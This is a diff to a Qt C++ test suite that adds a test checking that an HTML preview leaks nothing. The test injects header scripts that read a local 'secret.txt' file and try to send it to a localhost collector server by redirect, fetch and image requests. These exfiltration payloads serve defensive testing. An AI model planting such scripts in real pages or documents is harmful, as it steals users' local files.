@@ -11,6 +11,8 @@
 #include <QPlainTextEdit>
 #include <QSignalSpy>
 #include <QTabWidget>
+#include <QTcpServer>
+#include <QTcpSocket>
 #include <QTemporaryDir>
 #include <QtTest>
 #include <csignal>
@@ -67,6 +69,8 @@ private slots:
     void initTestCase();
     void launcherLinksAreRefused_data();
     void launcherLinksAreRefused();
+    void hostileHeaderSendsNothing_data();
+    void hostileHeaderSendsNothing();
     void otherPageLoadsAndLeavingBlanks();
     void missingModuleIsReportedInTheTab();
     void signalEndsEditorWithoutAsking_data();
@@ -75,6 +79,8 @@ private slots:
 private:
     QTemporaryDir dir;
     test::ScriptedPrompter prompter;
+    QTcpServer server; // where a hostile page would send what it read
+    QByteArray received;
 };
 
 void TestPreviewWeb::initTestCase() {
@@ -83,6 +89,13 @@ void TestPreviewWeb::initTestCase() {
     QFile other(dir.filePath("other.htm"));
     QVERIFY(other.open(QIODevice::WriteOnly));
     other.write("<html><body>other</body></html>");
+    QFile secret(dir.filePath("secret.txt"));
+    QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("top secret") > 0);
+    QVERIFY(server.listen(QHostAddress::LocalHost));
+    connect(&server, &QTcpServer::newConnection, this, [this] {
+        while (QTcpSocket* s = server.nextPendingConnection())
+            connect(s, &QTcpSocket::readyRead, s, [s, this] { received += s->readAll(); });
+    });
 }
 
 void TestPreviewWeb::launcherLinksAreRefused_data() {
@@ -110,6 +123,46 @@ void TestPreviewWeb::launcherLinksAreRefused() {
     QCOMPARE(refused.first().first().toUrl().toString(), href);
     QTest::qWait(300);
     QCOMPARE(shownUrl(browser), QUrl::fromLocalFile(previewFilePath()));
+}
+
+void TestPreviewWeb::hostileHeaderSendsNothing_data() {
+    QTest::addColumn<QString>("script"); // in a page that defines read() and L
+    QTest::addColumn<QPoint>("click");   // where the user clicks; the link "Out" is at 30, 30
+    QTest::newRow("read on load, sent to a &comma; address")
+        << "addEventListener('load', () => location = L + read())" << QPoint();
+    QTest::newRow("read on load, sent by requests")
+        << "addEventListener('load', () => { fetch(L + read(), {mode: 'no-cors'}); new "
+           "Image().src = L + read(); })"
+        << QPoint();
+    QTest::newRow("read on a click elsewhere")
+        << "addEventListener('mousedown', () => location = L + read())" << QPoint(300, 100);
+    QTest::newRow("user's click on a link goes out") << "" << QPoint(30, 30);
+}
+
+void TestPreviewWeb::hostileHeaderSendsNothing() {
+    QFETCH(QString, script);
+    QFETCH(QPoint, click);
+    received.clear();
+    const QString address = QStringLiteral("http://127.0.0.1:%1/leak").arg(server.serverPort());
+    MainWindow w(&prompter);
+    w.start({});
+    w.doc().setSetting("Header HTML",
+                       "<a href=\"" + address +
+                           "?out\" style=\"position: fixed; left: 0; top: 0; "
+                           "width: 60px; height: 60px\">Out</a><script>const L = '" +
+                           address +
+                           "&comma;?d='; function read() { const x = new "
+                           "XMLHttpRequest(); x.open('GET', 'secret.txt', false); "
+                           "try { x.send() } catch (e) {} return x.responseText; } " +
+                           script + "</script>");
+    w.show();
+    QVERIFY(QTest::qWaitForWindowExposed(&w));
+    QWidget* browser = showPreview(w);
+    QVERIFY(browser && browser->focusProxy());
+    if (!click.isNull())
+        QTest::mouseClick(browser->focusProxy(), Qt::LeftButton, {}, click);
+    QTest::qWait(3000);
+    QCOMPARE(received.left(14), QByteArray(click == QPoint(30, 30) ? "GET /leak?out " : ""));
 }
 
 void TestPreviewWeb::otherPageLoadsAndLeavingBlanks() {
